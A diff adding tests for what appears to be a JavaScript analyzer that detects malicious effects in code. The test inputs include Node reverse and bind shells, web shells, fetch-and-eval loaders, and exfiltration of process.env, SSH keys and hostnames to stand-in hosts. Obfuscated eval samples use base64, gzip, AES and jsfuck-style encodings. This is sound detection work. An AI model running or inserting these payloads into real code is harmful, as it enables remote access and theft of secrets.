@@ -1,3 +1,4 @@
+import { createCipheriv } from 'node:crypto';
 import { gzipSync } from 'node:zlib';
 import fc from 'fast-check';
 import { beforeAll, describe, expect, test } from 'vitest';
@@ -179,6 +180,230 @@ describe('names and values', () => {
   });
 });
 
+const shellSocket = 'connect to={host=192.0.2.9 port=4444 protocol=tcp} shell=';
+const child = "require('child_process')";
+
+describe('effects', () => {
+  test.each<readonly [string, string]>([
+    [
+      `(function () { var net = require("net"), sh = ${child}.spawn("/bin/sh", []); var c = new net.Socket(); c.connect(4444, "192.0.2.9", function () { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c) }); return /a/ })();`,
+      `${shellSocket}{program=sh how=its streams are piped into the socket}`,
+    ],
+    [
+      `const c = require('net').connect(4444, '192.0.2.9', () => { ${child}.spawn('/bin/sh', ['-i'], { stdio: [c, c, c] }) })`,
+      `${shellSocket}{program=/bin/sh how=its standard streams are the socket}`,
+    ],
+    [
+      `const c = require('net').createConnection({ port: 4444, host: '192.0.2.9' }); c.on('data', d => ${child}.exec(d.toString(), (e, o) => c.write(o)))`,
+      `${shellSocket}{program=sh how=runs what it receives}`,
+    ],
+    [
+      `require('tls').connect({ host: '192.0.2.9', port: 4444 }).on('data', function (d) { eval(d.toString()) })`,
+      `${shellSocket}{program=node how=runs what it receives}`,
+    ],
+    [
+      `require('net').createServer(s => { const sh = ${child}.spawn('/bin/bash'); s.pipe(sh.stdin); sh.stdout.pipe(s) }).listen(4444)`,
+      'listen at={host=0.0.0.0 port=4444 protocol=tcp} shell={program=bash how=its streams are piped into the socket}',
+    ],
+    [
+      `require('http').createServer((req, res) => { ${child}.exec(require('url').parse(req.url, true).query.cmd, (e, o) => res.end(o)) }).listen(8080)`,
+      'run what=‹cmd› interpreter=sh from=request',
+    ],
+    [
+      `const app = require('express')(); app.get('/x', (req, res) => eval(req.query.c))`,
+      'run what=‹c› interpreter=node from=request',
+    ],
+    [
+      `require('https').get('https://x.example/m', r => r.pipe(require('fs').createWriteStream('/tmp/m', { mode: 0o755 })))`,
+      'fetch url=https://x.example/m tool=node https to=/tmp/m',
+    ],
+    [
+      `require('axios')({ url: 'https://x.example/m', responseType: 'stream' }).then(r => r.data.pipe(require('fs').createWriteStream('/tmp/m')))`,
+      'fetch url=https://x.example/m tool=node axios to=/tmp/m',
+    ],
+    [
+      `const r = await fetch('https://x.example/m'); require('fs').writeFileSync('/tmp/m', Buffer.from(await r.arrayBuffer()))`,
+      'fetch url=https://x.example/m tool=node fetch to=/tmp/m',
+    ],
+    [
+      `fetch('https://x.example/a').then(r => r.text()).then(eval)`,
+      'run what=‹text› interpreter=node from=fetched fetched=0',
+    ],
+    [
+      `require('https').get('https://x.example/a', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })`,
+      'run what=‹data› interpreter=node from=fetched fetched=0',
+    ],
+    [
+      `require('axios').get('https://x.example/a').then(({ data }) => new Function('require', data)(require))`,
+      'run what=‹data› interpreter=node from=fetched fetched=0',
+    ],
+    [
+      `require('request')('https://x.example/a', (e, r, b) => ${child}.exec(b))`,
+      'run what=‹body› interpreter=sh from=fetched fetched=0',
+    ],
+    [
+      `require('got')('https://x.example/a').text().then(t => require('vm').runInThisContext(t))`,
+      'run what=‹text› interpreter=node from=fetched fetched=0',
+    ],
+    [
+      `const r = require('https').request({ hostname: 'x.example', path: '/c', method: 'POST' }); r.write(JSON.stringify(process.env)); r.end()`,
+      'exfiltrate to=https://x.example/c what=‹process.env›',
+    ],
+    [
+      `require('axios').post('https://x.example/c', { h: require('os').hostname() })`,
+      'exfiltrate to=https://x.example/c what=‹os.hostname()› ',
+    ],
+    [
+      `fetch('https://x.example/', { method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa') })`,
+      'exfiltrate to=https://x.example/ what=‹file /root/.ssh/id_rsa›',
+    ],
+    [
+      `fetch('https://x.example/', { method: 'POST', body: ${child}.execSync('whoami').toString() })`,
+      'exfiltrate to=https://x.example/ what=‹$(whoami)›',
+    ],
+    [
+      'require("dns").resolve(`${Buffer.from(require("os").hostname()).toString("hex")}.x.invalid`, () => {})',
+      'exfiltrate to=.x.invalid what=‹os.hostname()›.x.invalid via=dns',
+    ],
+    [
+      `require('fs').appendFileSync('/mnt/etc/crontab', '* * * * * root id')`,
+      'append path=/mnt/etc/crontab content=* * * * * root id',
+    ],
+    [`import { appendFile } from 'node:fs/promises'; await appendFile('/x', 'y')`, 'append path=/x content=y'],
+    [`require('fs').writeFile('/x', 'y', { flag: 'a' }, () => {})`, 'append path=/x content=y'],
+    [`const s = require('fs').createWriteStream('/x'); s.write('a'); s.end('b')`, 'write path=/x content=b'],
+    [`require('fs').writeFileSync('/x', 'y', { mode: 0o4755 })`, 'chmod path=/x mode=4755'],
+    [`require('fs').chmodSync('/x', '755')`, 'chmod path=/x mode=0755'],
+    [`require('fs').rmSync('/var/log', { recursive: true })`, 'delete path=/var/log recursive=true'],
+    [`require('fs').unlink('/x', () => {})`, 'delete path=/x'],
+    [`process.env.LD_PRELOAD = '/tmp/x.so'`, 'preload library=/tmp/x.so how=environment'],
+    [
+      `${child}.spawn('id', { env: { ...process.env, LD_PRELOAD: '/tmp/x.so' } })`,
+      'preload library=/tmp/x.so how=environment',
+    ],
+    [`process.kill(1, 'SIGKILL')`, 'kill pattern=1'],
+  ])('%s', (text, expected) => {
+    expect(effects(read(text))).toContain(expected);
+  });
+});
+
+describe('code in text', () => {
+  const inner = `${child}.exec("id")`;
+  const cipher = createCipheriv('aes-256-cbc', '0123456789abcdef0123456789abcdef', '0123456789abcdef');
+  const sealed = cipher.update(inner, 'utf8', 'hex') + cipher.final('hex');
+  test.each<readonly [string, string]>([
+    [`eval(${JSON.stringify(inner)})`, ''],
+    [`(0, eval)(${JSON.stringify(inner)})`, ''],
+    [`global['ev' + 'al'](${JSON.stringify(inner)})`, ''],
+    [`new Function(${JSON.stringify(inner)})()`, ''],
+    [`Function('require', ${JSON.stringify(inner)})(require)`, ''],
+    [`[].filter.constructor(${JSON.stringify(inner)})()`, ''],
+    [`setTimeout(${JSON.stringify(inner)}, 10)`, ''],
+    [`require('vm').runInNewContext(${JSON.stringify(inner)})`, ''],
+    [`new (require('vm').Script)(${JSON.stringify(inner)})`, ''],
+    [`module._compile(${JSON.stringify(inner)}, 'x')`, ''],
+    [`const m = new (require('module'))('x'); m._compile(${JSON.stringify(inner)}, 'x')`, ''],
+    [`eval(Buffer.from('${b64(inner)}', 'base64').toString())`, 'base64'],
+    [`eval(atob('${b64(inner)}'))`, 'base64'],
+    [`eval(Buffer.from('${hex(inner)}', 'hex').toString('utf8'))`, 'hex'],
+    [`eval(unescape('${[...inner].map((letter) => `%${hex(letter)}`).join('')}'))`, 'percent'],
+    [`eval(String.fromCharCode(${[...inner].map((letter) => letter.charCodeAt(0)).join()}))`, 'charcode'],
+    [
+      `eval(require('zlib').gunzipSync(Buffer.from('${gzipSync(inner).toString('base64')}', 'base64')).toString())`,
+      'gzip base64',
+    ],
+    [
+      `const d = require('crypto').createDecipheriv('aes-256-cbc', '0123456789abcdef0123456789abcdef', '0123456789abcdef'); eval(d.update('${sealed}', 'hex', 'utf8') + d.final('utf8'))`,
+      'openssl',
+    ],
+  ])('%s', (text, decoders) => {
+    const reading = read(text);
+    expect(code(reading)).toEqual([`javascript: ${inner}`]);
+    const steps = reading.nested.flatMap((nested) => nested.decoded.map((step) => step.decoder));
+    expect(steps.toSorted()).toEqual(
+      decoders
+        .split(' ')
+        .filter((word) => word !== '')
+        .toSorted(),
+    );
+    expect(commands(reading)).toEqual([]);
+  });
+
+  test('code that needs what is around it is followed where it stands', () => {
+    const reading = read(`const cp = ${child}; const line = 'id'; eval('cp.exec(line)')`);
+    expect(commands(reading)).toEqual(['sh -c id']);
+    expect(code(reading)).toEqual(['shell: id']);
+    expect(commands(read(`new Function('c', "${child}.exec(c)")('id')`))).toEqual(['sh -c id']);
+  });
+
+  test('six characters are enough for a programmer, and for this reader', () => {
+    const no = '![]+[]';
+    const yes = '!![]+[]';
+    const flat = `(${no})[+[]]+(${no})[!+[]+!+[]]+(${no})[+!+[]]+(${yes})[+[]]`;
+    expect(commands(read(`${child}.exec(${flat})`))).toEqual(['sh -c flat']);
+    expect(
+      commands(read(`[][${flat}]['constructor']('return process')().mainModule.require('child_process').exec('id')`)),
+    ).toEqual(['sh -c id']);
+  });
+
+  test('what is decoded by something unknown and then run is said', () => {
+    const reading = read(`eval(decrypt(Buffer.from('${b64('x'.repeat(300))}', 'base64')))`);
+    expect(effects(reading)).toEqual(['run what=‹decrypt()› interpreter=node from=decoded']);
+  });
+});
+
+describe('files beside the script', () => {
+  const files = new Map([
+    ['/app/lib.js', 'x'],
+    ['/app/sub/index.js', 'x'],
+    ['/app/config.json', '{"line": "id"}'],
+  ]);
+  const readFile = (path: string): string | undefined => files.get(path);
+
+  test('are loaded', () => {
+    const reading = read("require('./lib'); import './sub/index.js'; require('./sub'); import('./missing')", {
+      readFile,
+    });
+    expect(reading.loads.map((load) => load.path)).toEqual(['/app/lib.js', '/app/sub/index.js']);
+    expect(reading.loads[0]?.args).toEqual([['/app/lib.js']]);
+  });
+
+  test('are data when they are JSON', () => {
+    expect(commands(read(`${child}.exec(require('./config.json').line)`, { readFile }))).toEqual(['sh -c id']);
+  });
+});
+
+test.each<readonly [string]>([
+  ['const x = eval(something); Function(other)(); setTimeout(later, 10); new Function(body)'],
+  ["import fs from 'fs'; export default function f(a) { return fs.existsSync(a) ? a.map(x => x.y) : [] }"],
+  [
+    "const e = require('./x'); module.exports = { ...e, get a() { return 1 } }; class A extends e.B { #p = 1; static { A.q = 2 } }",
+  ],
+  ["for (const a of b) { if (a.c?.d ?? e) continue; switch (a) { case 1: break; default: throw new Error('x') } }"],
+])('says nothing about code that says nothing: %s', (text) => {
+  const reading = read(text);
+  expect([reading.effects, reading.commands, reading.nested, reading.gaps]).toEqual([[], [], [], []]);
+});
+
+test('TypeScript is read as far as it looks like JavaScript', () => {
+  const text = `import { exec } from 'node:child_process';
+interface Options { readonly line: string; more?: number }
+type Line = string | undefined;
+const run = (line: string, options?: Options): void => { exec(line) };
+export class Job<T> { private readonly line: string = 'id'; constructor(private other: T) { super() } start(): void { exec(this.line) } }
+run('ls' as string);
+exec(<string>'w');`;
+  expect(commands(read(text))).toEqual(expect.arrayContaining(['sh -c ls', 'sh -c id']));
+});
+
+test('a long text stays within its steps', () => {
+  const text = `const t = []; ${'for (let i = 0; i < 1e9; i++) { for (let j = 0; j < 1e9; j++) { t.push(i + j) } }'.repeat(30)}`;
+  const budget = { steps: 300_000, decodedBytes: 1_000, commands: 100 };
+  const reading = read(text, { budget });
+  expect(budget.steps).toBeGreaterThanOrEqual(0);
+  expect(reading.commands).toEqual([]);
+});
+
 test('never throws on any text, and keeps to its budget', () => {
   fc.assert(
     fc.property(fc.string({ maxLength: 300 }), (text) => {
@@ -188,5 +413,3 @@ test('never throws on any text, and keeps to its budget', () => {
     { numRuns: 200 },
   );
 });
-
-void [effects, code, commands];
